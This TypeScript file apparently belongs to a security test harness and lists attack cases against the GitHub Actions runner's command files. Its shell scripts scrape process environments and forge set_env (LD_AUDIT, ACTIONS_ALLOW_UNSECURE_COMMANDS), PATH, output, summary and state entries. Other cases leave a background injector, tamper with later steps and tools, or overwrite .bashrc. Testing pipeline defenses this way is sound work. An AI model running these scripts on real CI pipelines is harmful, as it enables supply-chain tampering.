import { type Attack, forgedParcels, tookState } from "./channel-attack.ts";
import type { Aftermath, Host } from "./channel-host.ts";

/** Finds a step's command files, by its environment or by looking, and writes to all there are. Never beyond this job's. */
const forging = ({ job }: Host, kind: string, line: string): string => `
  places() {
    { printenv; cat /proc/[0-9]*/environ; } 2>/dev/null | tr '\\0' '\\n' | sed -n 's/^GITHUB_[A-Z_]*=//p'
    for root in "" /proc/[0-9]*/root /proc/[0-9]*/cwd; do
      ls -d "$root${job.temp}"/_runner_file_commands/* 2>/dev/null
    done
  }
  places | grep "${job.temp}/_runner_file_commands/${kind}_" | sort -u | while read -r place; do
    printf '%s\\n' '${line}' >> "$place"
  done 2>/dev/null
`;

/** The runner reads files when a step is over, whoever wrote them. */
export const written: readonly Attack[] = [
  {
    id: "RUN-08",
    what: "writes the environment of later steps",
    script: (host) => forging(host, "set_env", "LD_AUDIT=/tmp/planted.so"),
    took: ({ later }) => later.outputs.LD_AUDIT !== "",
  },
  {
    id: "RUN-09",
    what: "writes the path of later steps",
    script: (host) => forging(host, "add_path", "/tmp/planted"),
    took: ({ later }) => later.outputs.PATH?.includes("/tmp/planted") === true,
  },
  {
    id: "RUN-10",
    what: "writes the action's outputs",
    script: (host) => forging(host, "set_output", "status=done"),
    took: ({ step, jobOutputs }) => step.outputs.status === "done" || jobOutputs.status === "done",
  },
  {
    id: "RUN-10",
    what: "writes the step's summary",
    script: (host) => forging(host, "step_summary", "all tests pass"),
    took: ({ step }) => step.summary?.includes("all tests pass") === true,
  },
  {
    id: "RUN-11",
    what: "writes state for the post step",
    script: (host) => forging(host, "save_state", `parcels=${forgedParcels(host.files.event)}`),
    took: tookState,
  },
  {
    id: "RUN-12",
    what: "waits behind for the next step's files, and writes those",
    patience: 3_000,
    script: ({ job }) =>
      `setsid bash -c 'for i in $(seq 80); do
        for place in "${job.temp}"/_runner_file_commands/set_output_*; do
          test -e "$place" && echo planted=true >> "$place"
        done 2> /dev/null
        sleep 0.1
      done' > /dev/null 2>&1 < /dev/null &`,
    took: ({ later }) => later.outputs.planted !== undefined,
  },
  {
    id: "RUN-13",
    what: "allows commands that set the environment, by a file",
    script: (host) => forging(host, "set_env", "ACTIONS_ALLOW_UNSECURE_COMMANDS=true"),
    took: ({ later }) => later.outputs.ACTIONS_ALLOW_UNSECURE_COMMANDS !== "",
  },
  ...(
    [
      ["RUN-14", "rewrites the script of a later step", "script"],
      ["RUN-15", "rewrites the action's own post step", "post"],
      ["RUN-16", "replaces a tool that later steps run", "tool"],
      ["RUN-22", "rewrites the event that later steps read", "event"],
    ] as const
  ).map(([id, what, name]) => ({
    ...{ id, what },
    script: ({ files }: Host) =>
      `for root in "" /proc/[0-9]*/root; do echo >> "$root${files[name]}"; rm -f "$root${files[name]}.x"; done 2>/dev/null`,
    took: ({ changed }: Aftermath) => changed.length > 0,
  })),
  {
    id: "RUN-25",
    what: "leaves something in the account's home",
    script: ({ home }) =>
      `for place in ~ "${home}" /proc/[0-9]*/root"${home}"; do echo 'touch /tmp/x' > "$place/.bashrc"; done 2>/dev/null`,
    took: ({ changed }) => changed.length > 0,
  },
];
